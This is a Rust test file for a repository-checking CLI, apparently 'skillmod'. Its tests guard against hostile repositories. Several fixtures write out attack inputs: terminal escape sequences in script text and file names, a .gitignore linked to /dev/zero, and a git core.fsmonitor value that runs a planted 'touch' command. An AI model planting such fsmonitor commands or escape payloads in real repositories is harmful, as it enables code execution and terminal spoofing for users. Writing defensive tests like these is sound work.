fn a_cache_dir_inside_the_checkout_is_ignored_by_git_and_refused_when_tracked() {
    let tmp = legacy_repo();
    let out = run(skillmod(tmp.path()).args(["check", "--cache-dir", "ci-cache", "."]));
    assert_eq!(out.status.code(), Some(1));
    let ignore = std::fs::read_to_string(tmp.path().join("ci-cache/.gitignore")).expect("ignored");
    assert!(ignore.ends_with("*\n"), "{ignore}");
    assert!(git(tmp.path(), &["status", "--porcelain", "--", "ci-cache"]).is_empty());
    // A salt committed with the repository (and a cache forged with it) is refused.
    std::fs::remove_file(tmp.path().join("ci-cache/.gitignore")).expect("rm");
    git(tmp.path(), &["add", "-f", "ci-cache/salt"]);
    let out = run(skillmod(tmp.path()).args(["check", "--cache-dir", "ci-cache", "."]));
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("CACHE_DIR_TRACKED"),
        "{}",
        stderr(&out)
    );
}

/// A hostile repository's script text and file names reach a terminal without control bytes:
/// check's text and GitHub formats (and migrate's verbose report and coloured diff) show them as
/// git quotes a path (`\033`, `\a`), while the finding is still reported and the plain diff keeps
/// every byte for `git apply`.
#[test]
fn control_bytes_from_a_repository_never_reach_the_terminal() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    git_init(root);
    write_script(
        root,
        "s/scripts/run.sh",
        b"#!/bin/bash\necho \"Created: \x1b]0;HACKED\x07\x1b[2J\x1b[31mred\xc2\x9b0m\"\necho SUCCESS\n",
    );
    write_script(
        root,
        "s/scripts/a\x1b[31mX\x07.sh",
        b"#!/bin/bash\necho SUCCESS\n",
    );
    std::fs::write(root.join("s/SKILL.md"), "---\nname: s\n---\n").expect("SKILL.md");
    let raw = |bytes: &[u8]| bytes.iter().any(|&b| b == 0x1b || b == 0x07);
    for format in ["text", "github"] {
        let out = run(skillmod(root).args(["check", "--format", format, "s"]));
        let text = stdout(&out);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{format}: {text}{}",
            stderr(&out)
        );
        assert!(!raw(&out.stdout) && !raw(&out.stderr), "{format}: {text:?}");
        assert!(!text.contains('\u{9b}'), "{format}: {text:?}");
        // Both files' findings, the script's text shown as git quotes a path.
        assert!(
            text.contains(r#"echo "Created: \033]0;HACKED\a\033[2J\033[31mred\302\2330m""#),
            "{format}: {text}"
        );
        assert!(text.contains(r#"a\033[31mX\a.sh"#), "{format}: {text}");
        assert_eq!(text.matches("SKM001").count(), 3, "{format}: {text}");
    }
    // With colours, the only escapes are skillmod's own SGR codes.
    let out = run(skillmod(root).args(["check", "--color", "always", "s"]));
    let text = stdout(&out);
    assert!(!out.stdout.contains(&0x07), "{text:?}");
    assert!(
        text.split('\x1b').skip(1).all(|s| s.starts_with('[')
            && s[1..]
                .chars()
                .take_while(|c| *c != 'm')
                .all(|c| c.is_ascii_digit() || c == ';')),
        "{text:?}"
    );
    // migrate: the verbose report and the coloured diff show them; the plain diff applies.
    let out = run(skillmod(root).args(["migrate", "-v", "--dry-run", "--color", "always", "s"]));
    assert!(
        !out.stdout.contains(&0x07) && !out.stderr.contains(&0x07),
        "{}",
        stdout(&out)
    );
    assert!(
        stdout(&out).contains(r"\033]0;HACKED\a"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains(r"\033]0;HACKED\a"),
        "{}",
        stderr(&out)
    );
    let plain = run(skillmod(root).args(["migrate", "--dry-run", "s"]));
    assert!(raw(&plain.stdout), "the patch keeps the script's bytes");
    git_apply(root, &plain.stdout);
    assert!(
        std::fs::read(root.join("s/scripts/run.sh"))
            .expect("read")
            .windows(3)
            .any(|w| w == b"\x1b]0")
    );
}

#[test]
fn an_ignore_file_that_is_a_link_or_too_large_is_refused_not_read() {
    // A committed `.gitignore -> /dev/zero` made the walk allocate until it aborted, one to
    // /dev/stdin hung it, and large ones cost gigabytes (hostile review). Each is refused, with
    // its path, at the root or in a folder below; nothing is called clean.
    let big = "x\n".repeat(200 * 1024);
    let cases: [(&str, Option<&str>); 4] = [
        (".gitignore", None),
        ("sub/.gitignore", None),
        ("sub/.ignore", None),
        ("sub/.gitignore", Some(big.as_str())),
    ];
    for (place, text) in cases {
        let tmp = legacy_repo();
        write_script(
            tmp.path(),
            "sub/x/execute.sh",
            b"#!/bin/bash\necho SUCCESS\n",
        );
        let path = tmp.path().join(place);
        match text {
            None => std::os::unix::fs::symlink("/dev/zero", &path).expect("link"),
            Some(text) => std::fs::write(&path, text).expect("write"),
        }
        for command in [&["check", "."][..], &["migrate", "--dry-run", "."][..]] {
            let out = run_bounded(skillmod(tmp.path()).args(command), 30);
            assert_eq!(
                out.status.code(),
                Some(2),
                "{place} {command:?}: {}",
                stderr(&out)
            );
            assert!(
                stderr(&out).contains("IGNORE_FILE_UNSAFE") && stderr(&out).contains(place),
                "{place}: {}",
                stderr(&out)
            );
        }
        // --no-ignore reads no ignore file, and finds the scripts.
        let out = run_bounded(skillmod(tmp.path()).args(["check", "--no-ignore", "."]), 30);
        assert_eq!(out.status.code(), Some(1), "{place}: {}", stderr(&out));
    }
    // `.git/info/exclude` of a work tree unpacked from an archive is guarded too.
    let tmp = legacy_repo();
    let exclude = tmp.path().join(".git/info/exclude");
    let _ = std::fs::remove_file(&exclude);
    std::os::unix::fs::symlink("/dev/zero", &exclude).expect("link");
    let out = run_bounded(skillmod(tmp.path()).args(["check", "."]), 30);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("IGNORE_FILE_UNSAFE"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn ordinary_ignore_files_are_read_a_link_to_one_and_many_small_ones_included() {
    // The guard above must not turn an ordinary repository away (re-test of the fix): the
    // common `.ignore -> .gitignore` link, and hundreds of small `.gitignore` files past the
    // first total of 2 MiB.
    let tmp = legacy_repo();
    std::fs::write(tmp.path().join(".gitignore"), "build/\n").expect("gitignore");
    std::os::unix::fs::symlink(".gitignore", tmp.path().join(".ignore")).expect("link");
    write_script(
        tmp.path(),
        "build/x/execute.sh",
        b"#!/bin/bash\necho SUCCESS\n",
    );
    let line = "# generated\n".repeat(400);
    for i in 0..600 {
        let dir = tmp.path().join(format!("pkg/{i}"));
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::fs::write(dir.join(".gitignore"), &line).expect("gitignore");
    }
    let out = run_bounded(skillmod(tmp.path()).args(["check", "."]), 60);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("s/execute.sh:2:1: SKM001"),
        "{}",
        stdout(&out)
    );
    assert!(
        !stdout(&out).contains("build/x"),
        "ignored by .gitignore: {}",
        stdout(&out)
    );
}

#[test]
fn a_state_gitignore_from_the_repository_is_replaced_so_backups_stay_uncommitted() {
    // A committed `.skillmod/.gitignore` holding `!*` (it ends in `*`) was kept: the user's
    // backups were committed, and restore then refused the user's own run (hostile review).
    let tmp = legacy_repo();
    std::fs::create_dir_all(tmp.path().join(".skillmod")).expect("state");
    std::fs::write(tmp.path().join(".skillmod/.gitignore"), "!*\n").expect("planted");
    git(tmp.path(), &["add", "-A"]);
    git(tmp.path(), &["commit", "-qm", "skill"]);
    let out = run(skillmod(tmp.path()).args(["migrate", "."]));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    git(tmp.path(), &["add", "-A"]);
    let staged = git(tmp.path(), &["ls-files", ".skillmod"]);
    assert_eq!(
        staged.trim(),
        ".skillmod/.gitignore",
        "backups staged: {staged}"
    );
    git(tmp.path(), &["commit", "-qm", "migrated"]);
    let out = run(skillmod(tmp.path()).args(["restore"]));
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(
        stdout(&out).contains("restored s/execute.sh"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_work_trees_own_fsmonitor_command_is_not_run() {
    // A work tree handed over with its `.git` (an archive) can name a command in
    // `core.fsmonitor` that `git status` and `ls-files` run (hostile review): skillmod's git
    // calls turn it off.
    let tmp = legacy_repo();
    git(tmp.path(), &["add", "-A"]);
    git(tmp.path(), &["commit", "-qm", "skill"]);
    let marker = tmp.path().join("pwned");
    let command = format!("touch '{}'; echo 0 #", marker.display());
    git(tmp.path(), &["config", "core.fsmonitor", &command]);
    for args in [
        &["check", "--no-cache", "."][..],
        &["check", "--staged"][..],
        &["migrate", "--dry-run", "."][..],
    ] {
        run(skillmod(tmp.path()).args(args));
        assert!(!marker.exists(), "{args:?} ran the repository's fsmonitor");
    }
}

#[test]
fn a_state_gitignore_that_is_a_folder_stops_the_backups_before_anything_is_written() {
    // A committed folder named `.skillmod/.gitignore` cannot be replaced: the backups would be
    // committed (re-test of the hostile fix), so migrate changes nothing and says why.
    let tmp = legacy_repo();
    std::fs::create_dir_all(tmp.path().join(".skillmod/.gitignore")).expect("folder");
    std::fs::write(tmp.path().join(".skillmod/.gitignore/keep"), "").expect("keep");
    git(tmp.path(), &["add", "-A"]);
    git(tmp.path(), &["commit", "-qm", "skill"]);
    let out = run(skillmod(tmp.path()).args(["migrate", "."]));
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stdout(&out).contains("STATE_DIR_UNSAFE") || stderr(&out).contains("STATE_DIR_UNSAFE"));
    assert_eq!(git(tmp.path(), &["status", "--porcelain"]).trim(), "");
}
